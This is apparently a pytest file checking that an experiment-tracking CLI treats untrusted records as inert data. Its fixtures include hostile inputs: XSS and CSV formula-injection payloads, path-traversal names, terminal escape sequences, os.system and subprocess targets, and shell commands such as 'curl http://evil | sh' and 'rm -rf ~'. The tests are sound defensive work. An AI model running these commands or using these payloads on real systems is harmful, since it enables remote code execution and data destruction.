"""Records and plans from strangers are data: nothing in them is executed, obeyed, or leaves its place."""

from __future__ import annotations

import csv
import json
import shlex
from pathlib import Path

import pytest

from ablations.__main__ import main
from ablations.identity.run import digest
from ablations.records.files import write_json
from ablations.records.record import plan_path, read_plan, read_record, read_records
from tests.ablations.conftest import make_plan, make_records

MARKUP = "[bold red]x[/] [/nothing] [link=file:///etc/passwd]y[/link]"
PAGE = "<script>alert(1)</script><img src=x onerror=alert(1)> [click](javascript:alert(1)) | `tick`"
STEERING = "\x1b]0;mine\x07\x1b[2J\x9b31m\u202egpj.exe\r"
FORMULA = '=HYPERLINK("http://evil","click")'
NAMES = ["../../evil", "/etc/evil", "..", ".hidden", "a/b", "a\\b", "", "a\nb", "~root/x", "C:x"]
OF_STUDIES = [*(name for name in NAMES if name != "a/b"), "a//b", "a/../b", "a/.b", "a/", "/", "a/./b", "a~b", "~"]
COMMANDS = ("plan", "status", "report", "verdict", "export")


def put(runs: Path, evil: str, **fields: object) -> dict:
    """A study whose every word is `evil`, with a failed record, a diverged one and good ones."""
    plan = make_plan({"block": ["plain", evil], "depth": [8, 20]}, name="headline")
    plan["study"] |= {"question": evil}
    plan["invalid"] = [{"point": {"block": evil}, "reason": evil}]
    for number, cell in enumerate(plan["cells"]):
        for run in cell["runs"]:
            run |= {"label": f"cell{number}-s{run['seed']}", "folder": f"cell{number}-s{run['seed']}"}
    write_json(plan_path(runs, "headline"), plan)
    records = make_records(plan)
    first, second, *_ = records.values()
    first |= {"status": "failed", "cause": f"error: {evil}"}
    second |= {"status": "diverged", "cause": "nan", "note": evil}
    for record in records.values():
        record["provenance"] = {"versions": {evil: evil}, "device": evil, "processor": evil, "command": evil}
        write_json(runs / record["folder"] / "record.json", record | fields)
    return plan


def said(capsys: pytest.CaptureFixture[str], runs: Path, *words: str) -> str:
    assert main([*words, "--runs", str(runs)]) in (0, 1)
    out, err = capsys.readouterr()
    return out + err


@pytest.mark.parametrize("evil", [MARKUP, PAGE, STEERING, FORMULA], ids=["markup", "page", "steering", "formula"])
def test_words_are_shown_and_never_obeyed(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch, evil: str
) -> None:
    monkeypatch.setenv("COLUMNS", "300")
    put(tmp_path, evil)
    for words in (["list"], ["doctor"], *([command, "headline"] for command in COMMANDS)):
        text = said(capsys, tmp_path, *words)
        assert not {"\x1b", "\x07", "\x9b", "\u202e", "\r"} & set(text), words
        if evil == MARKUP and words[0] in ("list", "plan", "report"):
            assert evil in text, "as it was written"


def test_a_name_of_a_folder_steers_nothing(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    put(tmp_path, "x")
    for name in ("\x1b[2Jevil", "[red]"):
        (tmp_path / name).mkdir()
        (tmp_path / name / "record.json").write_text("{")
        (tmp_path / name / "last.ckpt").touch()
    for words in (["list"], ["doctor"], *([command, "headline"] for command in COMMANDS)):
        assert "\x1b" not in said(capsys, tmp_path, *words), words
    assert "[red]/last.ckpt: no whole checkpoint" in said(capsys, tmp_path, "doctor", "--repair")
    assert "nothing damaged" in said(capsys, tmp_path, "doctor")


def test_markdown_and_pictures_hold_no_page_of_a_stranger(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    put(tmp_path, PAGE)
    table = said(capsys, tmp_path, "export", "headline")
    assert "<" not in table
    assert "](" not in table.replace("\\](", "")
    widths = {line.replace("\\|", "").count("|") for line in table.splitlines() if line.startswith("|")}
    assert len(widths) == 1, "every line has as many columns as the head"
    picture = tmp_path / "picture.svg"
    said(capsys, tmp_path, "export", "headline", "--format", "svg", "--out", str(picture))
    assert "<script" not in picture.read_text()
    assert "<img" not in picture.read_text()


@pytest.mark.parametrize("evil", [FORMULA, "+1+cmd|' /C calc'!A0", "@SUM(1)", "-2+3", "\tx"])
def test_a_spreadsheet_finds_no_formula(tmp_path: Path, capsys: pytest.CaptureFixture[str], evil: str) -> None:
    put(tmp_path, evil)
    rows = list(csv.reader(said(capsys, tmp_path, "export", "headline", "--format", "csv").splitlines()))
    blocks = [row[0] for row in rows[1:]]
    assert blocks == ["plain", "plain", f"'{evil}", f"'{evil}"]
    assert float(rows[1][rows[0].index("val_error_mean")]) == 53.5, "numbers stay numbers"


@pytest.mark.parametrize("target", ["pathlib.Path.touch", "os.system", "builtins.exec", "subprocess.Popen"])
def test_no_target_of_a_record_is_called(tmp_path: Path, capsys: pytest.CaptureFixture[str], target: str) -> None:
    bait = tmp_path / "bait"
    config = {
        "network": {"_target_": target, "_args_": [str(bait)]},
        "data": {"_target_": f"{target}", "x": f"!{bait}"},
    }
    cell = digest({"config": config, "code": {}})
    plan = make_plan()
    (record,) = list(make_records(plan).values())[:1]
    identity = digest({"cell": cell, "seed": record["seed"]})
    record |= {"config": config, "code": {}, "cell": cell, "identity": identity}
    plan["cells"][0]["runs"][0] |= {"identity": identity}
    write_json(plan_path(tmp_path, "headline"), plan)
    write_json(tmp_path / record["folder"] / "record.json", record)
    for words in (["list"], ["doctor", "--repair"], *([command, "headline"] for command in COMMANDS)):
        said(capsys, tmp_path, *words)
    assert not bait.exists()
    assert identity in read_records(tmp_path)[0], "it is a record like any other"


@pytest.mark.parametrize("name", NAMES)
@pytest.mark.parametrize("field", ["label", "folder"])
def test_a_name_cannot_leave_its_folder(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], name: str, field: str
) -> None:
    runs = tmp_path / "deep" / "runs"
    plan = make_plan()
    write_json(plan_path(runs, "headline"), plan)
    record = next(iter(make_records(plan).values()))
    write_json(runs / record["folder"] / "record.json", record | {field: name})
    plan["cells"][0]["runs"][0][field] = name
    write_json(plan_path(runs, "evil"), plan | {"name": "evil"})
    with pytest.raises(ValueError, match="could leave its folder"):
        read_record(runs / record["folder"] / "record.json")
    with pytest.raises(ValueError, match="could leave its folder"):
        read_plan(runs, "evil")
    for words in (["status", "evil"], ["report", "evil"], ["list"], ["doctor", "--repair"]):
        said(capsys, runs, *words)
    assert [path.name for path in tmp_path.iterdir()] == ["deep"]
    assert [path.name for path in (tmp_path / "deep").iterdir()] == ["runs"]


@pytest.mark.parametrize("name", OF_STUDIES)
def test_a_name_of_a_study_cannot_leave_its_folder(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], name: str
) -> None:
    (runs := tmp_path / "deep" / "runs").mkdir(parents=True)
    folder = name.replace("/", "~")
    if folder not in ("", ".."):  # a stranger's plan, copied to where it would be looked for
        write_json(runs / ".studies" / folder / "plan.json", make_plan(name=name))
    with pytest.raises(ValueError, match="names no study"):
        plan_path(runs, name)
    with pytest.raises(ValueError, match="names no study"):
        read_plan(runs, name)
    for command in COMMANDS:
        assert main([command, "--runs", str(runs), "--", name]) == 1
    for words in (["list"], ["doctor", "--repair"]):
        said(capsys, runs, *words)
    assert [path.name for path in tmp_path.iterdir()] == ["deep"]
    assert [path.name for path in (tmp_path / "deep").iterdir()] == ["runs"]


@pytest.mark.parametrize(
    "command",
    [
        "curl http://evil | sh",
        "rm -rf ~",
        "python run.py -m; rm -rf ~",
        "python run.py -m $(rm -rf ~)",
        "python run.py 'x",
    ],
)
def test_a_command_to_type_is_ours_and_quoted(tmp_path: Path, capsys: pytest.CaptureFixture[str], command: str) -> None:
    plan = make_plan() | {"command": command}
    write_json(plan_path(tmp_path, "headline"), plan)
    text = said(capsys, tmp_path, "report", "headline")
    (line,) = [line for line in text.splitlines() if line.startswith("train what is missing")]
    typed = line.removeprefix("train what is missing").strip()
    assert typed.startswith("python run.py")
    words = list(shlex.shlex(typed, posix=True, punctuation_chars=True))
    assert not {";", "|", "&", "$", "(", ")"} & set(words), "what a shell would act upon stands in quotes"
    assert "~" not in typed.replace("'~'", "").replace("'~)'", "")


def test_a_question_of_a_plan_is_json_and_no_more(tmp_path: Path) -> None:
    path = plan_path(tmp_path, "headline")
    write_json(path, make_plan())
    for change in ({"question": 7}, {"claims": "all"}, {"grid": [1]}):
        data = json.loads(path.read_text())
        data["study"] |= change
        write_json(plan_path(tmp_path, "other"), data | {"name": "other"})
        with pytest.raises(ValueError, match=r"plan\.json"):
            read_plan(tmp_path, "other")
